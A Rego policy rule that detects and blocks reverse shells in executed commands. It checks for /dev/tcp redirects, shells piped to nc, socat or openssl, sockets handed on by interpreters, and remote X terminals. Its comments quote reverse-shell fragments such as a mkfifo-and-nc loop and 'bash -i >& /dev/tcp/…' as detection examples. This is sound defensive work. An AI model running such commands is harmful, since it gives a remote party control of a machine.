# METADATA
# title: A shell bound to a network connection
# description: whoever is at the other end types into it
# related_resources:
#   - https://attack.mitre.org/techniques/T1059/
# custom:
#   id: network.reverse-shell
#   severity: critical
#   mode: enforce
#   remediation: exchange data by files or requests
package interlock.rules.network["reverse-shell"]

import data.interlock.lib
import data.interlock.tables

mode := lib.mode(rego.metadata.chain())

# Shells and interpreters of the action, looked for only where it touches the network at all.
interpreters contains id if {
	input.facts.network[0] # a quiet rule costs this one lookup
	some name, ids in input.facts.index.commands
	tables.shells[name]
	some id in ids
}

deny contains lib.reason(rego.metadata.chain(), message, [command]) if {
	some id in interpreters
	command := input.facts.commands[id]
	some holder in ({id} | outer(command))
	some redirect in input.facts.commands[holder].redirects
	leads_out(redirect)
	message := sprintf("`%s` is connected to %s", [command.basename, lib.shown(redirect.target)])
}

# What starts it hands its descriptors on: `setsid bash -i >& /dev/tcp/…`.
outer(command) := {id |
	some wrapper in command.wrappers
	some id in input.facts.index.commands[wrapper]
}

leads_out(redirect) if regex.match(`^/dev/(tcp|udp)/`, redirect.target.text)

# `exec 5<>/dev/tcp/…` before, `<&5` here.
leads_out(redirect) if {
	redirect.op in {"<&", ">&"}
	some id in input.facts.index.commands.exec
	some opened in input.facts.commands[id].redirects
	regex.match(`^/dev/(tcp|udp)/`, opened.target.text)
	lib.may_equal(redirect.target, sprintf("%d", [opened.fd]))
}

# A descriptor nobody knows, beside a connection: `coproc nc …; bash <&${COPROC[0]}`.
leads_out(redirect) if {
	redirect.op == "<&"
	redirect.target.kind != "literal"
}

deny contains lib.reason(rego.metadata.chain(), message, [effect]) if {
	input.facts.network[0] # a quiet rule costs this one lookup
	some op in {"connect", "listen"}
	some id in input.facts.index.network[op]
	effect := input.facts.network[id]
	effect.flows_to == "interpreter"
	message := sprintf("a shell is bound to a connection with %s", [lib.shown(effect.host)])
}

# mkfifo f; sh < f | nc host port > f
deny contains lib.reason(rego.metadata.chain(), message, [command]) if {
	some name in {"nc", "ncat", "netcat", "telnet", "socat", "openssl"}
	some id in input.facts.index.commands[name]
	command := input.facts.commands[id]
	some before in command.stdin.commands
	input.facts.commands[before].basename in {"bash", "sh", "dash", "zsh", "ksh", "ash"}
	interactive(before)
	message := sprintf("the output of a shell goes to `%s`", [name])
}

# A program's own socket, or that of a group of commands, and a shell that reads from whoever is there.
deny contains lib.reason(rego.metadata.chain(), message, [effect, code]) if {
	some source in {"none", "network"}
	some shell in input.facts.index.code[source]
	code := input.facts.code[shell]
	not code.language in {"sql", "other"}
	some op in {"connect", "listen"}
	some id in input.facts.index.network[op]
	effect := input.facts.network[id]
	not lib.has_command(effect)
	held(effect)
	message := sprintf("a shell without a program starts beside a connection with %s", [lib.shown(effect.host)])
}

held(effect) if lib.has_call(effect)

# A proxy that a variable names is only possible.
held(effect) if effect.certainty == "certain"

# `sh <&3`: a descriptor that only the program around it can have opened.
deny contains lib.reason(rego.metadata.chain(), message, [command]) if {
	some name in {"awk", "gawk", "lua", "node", "perl", "php", "ruby", "tclsh"}
	some id in input.facts.index.wrapped[name]
	command := input.facts.commands[id]
	tables.shells[command.basename]
	some redirect in command.redirects
	redirect.op in {"<&", ">&"}
	not redirect.target.text in {"0", "1", "2", "-"}
	message := sprintf("`%s` is connected to what `%s` opened", [command.basename, name])
}

# A terminal on the screen of another machine.
deny contains lib.reason(rego.metadata.chain(), message, [command]) if {
	some name in {"gnome-terminal", "konsole", "rxvt", "urxvt", "xfce4-terminal", "xterm"}
	some id in input.facts.index.commands[name]
	command := input.facts.commands[id]
	lib.may_match(command.options.display, `^[^:]`)
	message := sprintf("`%s` appears on %s", [name, lib.shown(command.options.display)])
}

# Not `bash -c 'echo hi' | nc`: that shell reads nobody's words.
interactive(command) if {
	some code in input.facts.code
	code.by.command == command
	code.source != "literal"
}
